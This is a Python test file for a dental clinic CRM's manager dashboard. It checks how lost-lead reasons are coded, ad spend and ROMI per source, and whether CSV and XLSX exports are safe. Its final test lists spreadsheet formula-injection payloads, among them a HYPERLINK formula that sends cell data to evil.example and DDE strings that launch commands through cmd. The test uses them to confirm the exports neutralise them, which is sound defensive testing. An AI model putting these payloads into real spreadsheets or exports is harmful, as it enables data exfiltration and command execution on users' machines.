"""Figures a manager pays bonuses and budgets on, on in-memory ports: reasons once and apart, ad spend, exports.

Each figure is checked against what the events say a person would count, not the app's own arithmetic.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from typing import Any

import pytest

from chalicelib.console import ad_spend_api as ad_spend
from chalicelib.console import page as console
from chalicelib.console.digest import digest, local_today
from chalicelib.console.digest.render import email
from chalicelib.domain.records import CallTask, Lead
from chalicelib.domain.records import Clinic as ClinicRecord
from chalicelib.platform.errors import InvalidInput
from chalicelib.ports import UnitOfWork
from tests.harness import open_all_day
from tests.service.clinic import CLINIC, Clinic
from tests.service.test_campaigns import lost_patient, new_campaign, tick
from tests.service.test_scenarios import at, event


def lead(clinic: Clinic, lead_id: str, phone: str, source: str = "yandex_direct", **extra: Any) -> None:
    clinic.send(event(clinic, "lead.created", {"lead": {"id": lead_id, "channel": "form", "source": source,
                                                        "phone": phone, "name": "Анна", **extra}}))


def record(clinic: Clinic) -> ClinicRecord:
    found = clinic.store.get(ClinicRecord, CLINIC, CLINIC)
    assert found is not None
    return found


def board(clinic: Clinic, language: str = "ru") -> dict[str, Any]:
    today = local_today(record(clinic), clinic.clock.now)
    return console.dashboard(clinic.store, record(clinic), str(today - timedelta(days=29)), str(today),
                             clinic.clock.now, language)


def table(figures: dict[str, Any], table_id: str) -> dict[str, Any]:
    return next(t for t in figures["tables"] if t["id"] == table_id)


def test_a_declined_lead_is_one_loss_by_code_with_the_comment_kept_apart() -> None:
    clinic = Clinic()
    lead(clinic, "L-1", "+79160000011")
    (task,) = clinic.tasks()
    clinic.outcome(task.id, "declined", reason="too_expensive", comment="сравнивает с клиникой на Ленина")
    stored = clinic.store.get(Lead, CLINIC, "L-1")
    assert stored is not None and stored.lost is not None
    assert (stored.lost.code, stored.lost.comment) == ("too_expensive", "сравнивает с клиникой на Ленина")
    lead(clinic, "L-2", "+79160000012")
    clinic.send(event(clinic, "lead.lost", {"lead_id": "L-2", "reason": "ДОРОГОВАТО для меня"}))  # an MIS's text
    lead(clinic, "L-3", "+79160000013")
    clinic.send(event(clinic, "lead.lost", {"lead_id": "L-3", "reason": "уехала на дачу"}))
    figures = board(clinic)
    assert figures["lost_reasons"] == {"too_expensive": 2, "other": 1}, "each lead once, by the clinic's code"
    assert table(figures, "lost_reasons")["rows"] == [["Дорого", 2], ["Другое", 1]]
    other = clinic.store.get(Lead, CLINIC, "L-3")
    assert other is not None and other.lost is not None and other.lost.comment == "уехала на дачу"
    assert figures["refusal_reasons"] == {}


def test_campaign_refusals_and_cancellations_are_their_own_tables() -> None:
    clinic = Clinic()
    lost_patient(clinic, "P-1", plan="40000.00")
    new_campaign(clinic)
    tick(clinic)
    (task,) = clinic.tasks()
    clinic.outcome(task.id, "declined", reason="Дорого", comment="ждёт зарплату")
    closed = clinic.store.get(CallTask, CLINIC, task.id)
    assert closed is not None and (closed.reason_code, closed.comment) == ("too_expensive", "ждёт зарплату")
    appt = {"id": "A-1", "patient_id": "P-1", "doctor_id": "D-1", "kind": "treatment",
            "starts_at": at(clinic, days=3), "ends_at": at(clinic, days=3, hours=1)}
    clinic.send(event(clinic, "appointment.created", {"appointment": appt}))
    clinic.send(event(clinic, "appointment.cancelled", {"appointment_id": "A-1", "reason": "Заболела, температура",
                                                        "cancelled_by": "patient"}))
    figures = board(clinic)
    assert figures["refusal_reasons"] == {"too_expensive": 1} and figures["lost_reasons"] == {}
    assert figures["appointments"]["cancel_reasons"] == {"ill": 1}
    assert table(figures, "cancel_reasons")["rows"] == [["Заболел", 1]]


def test_old_free_text_counters_keep_showing_and_join_their_code() -> None:
    clinic = Clinic()
    day = local_today(record(clinic), clinic.clock.now)
    old = UnitOfWork(CLINIC)  # counters as the app kept them before reasons had codes
    old.count({day: {"lost|Дорого: Дорого, сравнивает с клиникой на Ленина": 1, "lost|дорого": 4,
                     "lost|ремонт квартиры": 2, "appointments.cancel_reason|работа": 1}})
    clinic.store.commit(old, clinic.clock.now)
    lead(clinic, "L-1", "+79160000011")
    clinic.send(event(clinic, "lead.lost", {"lead_id": "L-1", "reason": "too_expensive"}))
    figures = board(clinic)
    assert figures["lost_reasons"] == {"too_expensive": 6, "ремонт квартиры": 2}
    assert figures["appointments"]["cancel_reasons"] == {"no_time": 1}
    today = digest(clinic.store, record(clinic), day, clinic.clock.now)
    text = email(record(clinic), today, today).text
    assert "«Дорого» is the main reason" in text or "«Дорого» — главная причина" in text
    assert "(6 за 30 дней)" in text, "the top action quotes the lost leads' own count"


def test_ad_spend_gives_cost_per_lead_booking_and_visit_and_romi_per_source() -> None:
    clinic = Clinic(settings={**open_all_day(), "source_names": {"yandex_direct": "Яндекс Директ"}})
    today = local_today(record(clinic), clinic.clock.now)
    month = f"{today:%Y-%m}"
    csv_rows = f"Месяц;Источник;Сумма\r\n{today:%m.%Y};yandex_direct;100 000,00\r\n{month};maps;5000\r\n"
    ad_spend.save(clinic.rt, CLINIC, ad_spend.parse(csv_rows.encode("cp1251"), "text/csv"))
    clinic.send(event(clinic, "patient.upserted", {"patient": {"id": "P-1", "full_name": "Анна",
                                                               "phones": [{"number": "+79160000011"}]}}))
    for n in range(4):
        lead(clinic, f"L-{n}", f"+7916000001{n}", patient_id="P-1" if n == 0 else None)
    appt = {"id": "A-1", "patient_id": "P-1", "doctor_id": "D-1", "kind": "treatment", "lead_id": "L-0",
            "starts_at": at(clinic, hours=2), "ends_at": at(clinic, hours=3)}
    clinic.send(event(clinic, "appointment.created", {"appointment": appt}))
    clinic.later(hours=3)
    clinic.send(event(clinic, "visit.completed", {"visit": {"id": "V-1", "appointment_id": "A-1", "patient_id": "P-1",
                                                            "doctor_id": "D-1", "kind": "treatment",
                                                            "amount": "45000.00"}}))
    first = today - timedelta(days=29)
    days_in_period = sum(1 for n in range(30) if (first + timedelta(days=n)).month == today.month)
    from calendar import monthrange
    share = 100000 * days_in_period / monthrange(today.year, today.month)[1]
    row = board(clinic)["ad_spend"]["yandex_direct"]
    assert row["spend"] == f"{share:.2f}" and (row["leads"], row["booked"], row["came"]) == (4, 1, 1)
    assert row["cost_per_lead"] == f"{share / 4:.2f}" and row["cost_per_came"] == f"{share:.2f}"
    assert row["revenue"] == "45000.00" and row["romi"] == f"{(45000 - share) / share:.2f}"
    shown = table(board(clinic), "ad_spend")
    assert shown["rows"][0][0] == "Яндекс Директ"
    listed = ad_spend.listing(clinic.rt, CLINIC, month, month)["months"]
    assert listed == [{"month": month, "by_source": {"maps": "5000.00", "yandex_direct": "100000.00"}}]
    day = local_today(record(clinic), clinic.clock.now)
    assert digest(clinic.store, record(clinic), day, clinic.clock.now)["ad_spend_30d"]["maps"]["leads"] == 0


def test_bad_spend_rows_are_named() -> None:
    clinic = Clinic()
    with pytest.raises(InvalidInput) as bad:
        ad_spend.parse("month;source;amount\n2026-13;maps;10\n2026-11;maps;много\n".encode(), "text/csv")
    assert [e.field for e in bad.value.errors] == ["rows.1.month", "rows.2.amount"]
    with pytest.raises(InvalidInput) as bad_json:
        ad_spend.parse(b'{"rows": [{"month": "2026-11", "source": "", "amount": "-5"}]}', "application/json")
    assert {e.field for e in bad_json.value.errors} == {"rows.0.source", "rows.0.amount"}
    assert ad_spend.listing(clinic.rt, CLINIC, None, None)["months"][-1]["by_source"] == {}


EVIL = ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Открыть карту\")", "@SUM(1+1)*cmd|' /C calc'!A0",
        "+7(916)HACK", "-2+3+cmd|' /C notepad'!A1", "\t=1+1", "\r=2+2"]


def test_hostile_text_in_every_field_that_reaches_an_export_is_never_evaluated() -> None:
    hostile = {**open_all_day(), "admins": {"U-1": EVIL[0]}, "doctors": {"D-1": EVIL[1]},
               "source_names": {}, "staff_extensions": {"U-1": "101"}}
    clinic = Clinic(settings=hostile)
    for n, text in enumerate(EVIL):
        lead(clinic, f"L-{n}", f"+7916000002{n}", source=text, admin_id="U-1", interest=text)
        clinic.send(event(clinic, "lead.lost", {"lead_id": f"L-{n}", "reason": text}))
        appt = {"id": f"A-{n}", "patient_id": f"P-{n}", "doctor_id": "D-1", "admin_id": text[:100].replace("#", ""),
                "kind": "treatment", "starts_at": at(clinic, days=2), "ends_at": at(clinic, days=2, hours=1)}
        clinic.send(event(clinic, "appointment.created", {"appointment": appt}))
        clinic.send(event(clinic, "appointment.cancelled", {"appointment_id": f"A-{n}", "reason": text}))
        clinic.send(event(clinic, "visit.completed", {"visit": {"id": f"V-{n}", "patient_id": f"P-{n}",
                                                                "doctor_id": "D-1", "kind": "consultation",
                                                                "amount": "100.00"}}))
    month = f"{local_today(record(clinic), clinic.clock.now):%Y-%m}"
    rows = "\n".join(f"{month};{t.strip()};1000" for t in EVIL[:4])
    ad_spend.save(clinic.rt, CLINIC, ad_spend.parse(rows.encode(), "text/csv"))
    old = UnitOfWork(CLINIC)  # free-text reasons of records from before codes are shown as written
    old.count({local_today(record(clinic), clinic.clock.now): {f"lost|{EVIL[2]}": 1,
                                                               f"appointments.cancel_reason|{EVIL[3]}": 1}})
    clinic.store.commit(old, clinic.clock.now)
    figures = board(clinic)
    seen: set[str] = set()
    for shown in figures["tables"]:
        body, _, _ = console.export(clinic.store, record(clinic), figures["from"], figures["to"], clinic.clock.now,
                                    "ru", shown["id"], "csv")
        text = body.decode() if isinstance(body, bytes) else body
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (shown["id"], cell)
                assert not cell.startswith("-") or cell.replace(",", "", 1).lstrip("-").isdigit(), (shown["id"], cell)
                if any(e.strip()[:6] in cell for e in EVIL):
                    seen.add(shown["id"])
        book, _, _ = console.export(clinic.store, record(clinic), figures["from"], figures["to"], clinic.clock.now,
                                    "ru", shown["id"], "xlsx")
        with zipfile.ZipFile(io.BytesIO(book)) as sheets:  # type: ignore[arg-type]
            xml = [sheets.read(n).decode() for n in sheets.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in x or "<f " in x for x in xml), shown["id"]
    assert seen >= {"funnel_source", "funnel_service", "funnel_admin", "admins", "doctors", "lost_reasons",
                    "cancel_reasons", "ad_spend"}, "the hostile texts did reach those exports"
